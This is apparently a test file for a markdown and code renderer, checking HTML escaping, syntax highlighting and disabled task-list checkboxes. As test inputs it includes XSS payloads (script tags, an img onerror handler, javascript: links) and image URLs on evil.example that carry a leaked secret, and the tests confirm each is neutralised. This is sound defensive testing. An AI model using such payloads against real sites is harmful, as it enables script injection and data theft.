from artifactflow.markdown import code_render, markdown_render, markdown_tokens


def test_fenced_code_in_a_known_language_is_highlighted_and_escaped():
    html = markdown_render('```python\ndef f():\n    return "<b>"\n```')

    assert html.startswith('<pre class="highlight"><code><span class="k">def</span>')
    assert "&lt;b&gt;" in html and "<b>" not in html


def test_unknown_languages_and_raw_html_stay_plain_text():
    html = markdown_render('```nosuchlang\n<i>x</i>\n```\n\n<span class="k" onclick="x()">raw</span>')

    assert "<pre><code>&lt;i&gt;x&lt;/i&gt;" in html
    assert "<span" not in html and '&lt;span class="k" onclick' in html


def test_hostile_markup_is_inert():
    html = markdown_render("<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1))")

    assert "<script" not in html and "<img" not in html and 'href="javascript:' not in html


def test_task_list_items_are_disabled_checkboxes():
    html = markdown_render("- [ ] search\n- [x] read\n- plain")

    open_item, done_item, plain_item = html.split("<li")[1:]
    for item in (open_item, done_item):
        assert '<input class="task-list-item-checkbox"' in item
        assert 'type="checkbox"' in item and 'disabled="disabled"' in item
    assert "checked" not in open_item.replace("-checkbox", "") and 'checked="checked"' in done_item
    assert plain_item.startswith(">plain</li>")


def test_inputs_can_never_be_live_form_fields():
    html = markdown_render('<input type="text" name="password"> [ ] not an item')

    assert "<input" not in html and "&lt;input" in html


def test_images_are_links_so_no_page_loads_an_address_a_model_chose():
    html = markdown_render(
        "![chart of *sales*](https://evil.example/pixel.png?leak=secret) ![](//evil.example/a.png) "
        "![d](data:image/png;base64,AAAA) [![badge](https://badges.example/b.svg)](https://project.example)"
    )

    assert "<img" not in html
    assert (
        '<a class="image-link" href="https://evil.example/pixel.png?leak=secret" rel="noopener noreferrer nofollow">Image: chart of sales (evil.example)</a>'
        in html
    )
    assert (
        '<a class="image-link" href="//evil.example/a.png" rel="noopener noreferrer nofollow">Image (evil.example)</a>'
        in html
    )
    assert "data:" not in html and "Image: d" in html
    # An image inside a link is that link's text: links do not nest.
    assert (
        '<a href="https://project.example" rel="noopener noreferrer nofollow">Image: badge (badges.example)</a>' in html
    )


def test_a_text_file_of_a_known_type_is_highlighted_and_any_other_is_escaped_as_is():
    python = code_render('print("<b>")', content_type="text/x-python")
    unknown = code_render("<b>bold?</b>", content_type="application/x-nothing")

    assert python.startswith('<div class="highlight"><pre>') and "&lt;b&gt;" in python
    assert unknown == '<pre class="plain">&lt;b&gt;bold?&lt;/b&gt;</pre>'


def test_structure_tokens_keep_raw_html_apart_and_task_boxes_only_on_request():
    def inline(tokens):
        return [child.type for token in tokens if token.type == "inline" for child in token.children]

    assert "html_inline" in inline(markdown_tokens("a <b>b</b>"))
    assert inline(markdown_tokens("- [ ] open")) == ["text"]
    assert inline(markdown_tokens("- [ ] open", task_lists=True)) == ["html_inline", "text"]
